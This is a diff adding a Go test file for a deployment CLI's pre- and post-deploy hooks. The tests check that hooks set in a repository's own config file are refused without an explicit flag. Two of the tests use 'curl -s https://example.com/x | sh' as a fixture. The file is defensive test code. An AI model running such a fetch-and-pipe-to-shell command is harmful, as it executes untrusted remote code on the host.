@@ -0,0 +1,136 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/spf13/cobra"
+
+	"github.com/celikgo/autoz-control-tower/internal/config"
+)
+
+func TestRunHookEnvironment(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("hooks run through sh")
+	}
+
+	out := filepath.Join(t.TempDir(), "env")
+	hookContext := deployHookContext{
+		Manifest:  "app.yaml",
+		Namespace: "shop",
+		Clusters:  []string{"prod-eu", "prod-us"},
+		User:      "alice",
+		Failed:    []string{"prod-us"},
+	}
+	command := `echo "$MCM_HOOK|$MCM_MANIFEST|$MCM_NAMESPACE|$MCM_CLUSTERS|$MCM_USER|$MCM_RESULT|$MCM_FAILED_CLUSTERS" > ` + out
+	if err := runHook(hookPostDeploy, command, hookContext); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	got, _ := os.ReadFile(out)
+	if want := "post-deploy|app.yaml|shop|prod-eu,prod-us|alice|failure|prod-us\n"; string(got) != want {
+		t.Errorf("Expected %q, got %q", want, got)
+	}
+
+	// The outcome is only the post-deploy hook's business
+	if env := strings.Join(hookContext.env(hookPreDeploy), "\n"); strings.Contains(env, "MCM_RESULT") {
+		t.Errorf("Expected no MCM_RESULT for the pre-deploy hook, got %s", env)
+	}
+
+	err := runHook(hookPreDeploy, "exit 3", hookContext)
+	if err == nil || !strings.Contains(err.Error(), "pre-deploy hook failed") {
+		t.Errorf("Expected the pre-deploy hook to fail, got %v", err)
+	}
+	if hookFailure(config.DeployHooks{IgnoreErrors: true}, err) != nil {
+		t.Error("Expected an ignored hook failure to be only a warning")
+	}
+	if hookFailure(config.DeployHooks{}, err) == nil {
+		t.Error("Expected a hook failure to fail the command")
+	}
+}
+
+func TestDeployHooksFlagsOverrideConfig(t *testing.T) {
+	cmd := &cobra.Command{}
+	addHookFlags(cmd)
+	configured := config.DeployHooks{PreDeploy: "./check.sh", PostDeploy: "./notify.sh"}
+
+	if got := deployHooks(cmd, configured); got != configured {
+		t.Errorf("Expected the config's hooks without flags, got %+v", got)
+	}
+
+	// An empty flag turns a configured hook off for one deploy
+	if err := cmd.Flags().Parse([]string{"--pre-deploy=", "--post-deploy=./page.sh", "--ignore-hook-errors"}); err != nil {
+		t.Fatal(err)
+	}
+	want := config.DeployHooks{PostDeploy: "./page.sh", IgnoreErrors: true}
+	if got := deployHooks(cmd, configured); got != want {
+		t.Errorf("Expected %+v, got %+v", want, got)
+	}
+}
+
+func TestProjectConfigHooksAreRefused(t *testing.T) {
+	newCmd := func(args ...string) *cobra.Command {
+		cmd := &cobra.Command{}
+		addHookFlags(cmd)
+		addNotifyFlags(cmd)
+		if err := cmd.Flags().Parse(args); err != nil {
+			t.Fatal(err)
+		}
+		return cmd
+	}
+	project := &config.MultiClusterConfig{
+		ProjectConfig: "/src/repo/.mcm.yaml",
+		Hooks:         config.DeployHooks{PreDeploy: "curl -s https://example.com/x | sh"},
+		Notify:        config.DeployNotify{Webhook: "https://example.com/collect"},
+	}
+
+	err := checkProjectHooks(newCmd(), project)
+	if err == nil {
+		t.Fatal("Expected hooks from a project config to be refused")
+	}
+	for _, want := range []string{"/src/repo/.mcm.yaml", "hooks.preDeploy", "notify.webhook", "--allow-hooks"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("Expected %q in %q", want, err)
+		}
+	}
+
+	if err := checkProjectHooks(newCmd("--allow-hooks"), project); err != nil {
+		t.Errorf("Expected --allow-hooks to let them run, got %v", err)
+	}
+	if err := checkProjectHooks(newCmd("--pre-deploy=", "--notify-webhook="), project); err != nil {
+		t.Errorf("Expected settings the flags replace not to count, got %v", err)
+	}
+
+	user := *project
+	user.ProjectConfig = ""
+	if err := checkProjectHooks(newCmd(), &user); err != nil {
+		t.Errorf("Expected hooks from the user config to run, got %v", err)
+	}
+}
+
+func TestProjectConfigCannotAllowItsOwnHooks(t *testing.T) {
+	root := &cobra.Command{Use: "mcm"}
+	deploy := &cobra.Command{Use: "deploy"}
+	root.AddCommand(deploy)
+	addHookFlags(deploy)
+	addNotifyFlags(deploy)
+
+	project := &config.MultiClusterConfig{
+		ProjectConfig: "/src/repo/.mcm.yaml",
+		Hooks:         config.DeployHooks{PostDeploy: "curl -s https://example.com/x | sh"},
+		Defaults: map[string]map[string]config.FlagValue{
+			"deploy": {"allow-hooks": "true"},
+		},
+	}
+
+	// Whether the default is turned away or merely ignored, the hook mustn't run
+	err := applyCommandDefaults(deploy, project.Defaults)
+	if err == nil {
+		err = checkProjectHooks(deploy, project)
+	}
+	if err == nil {
+		t.Fatal("Expected a project config's own allow-hooks default not to let its hooks run")
+	}
+}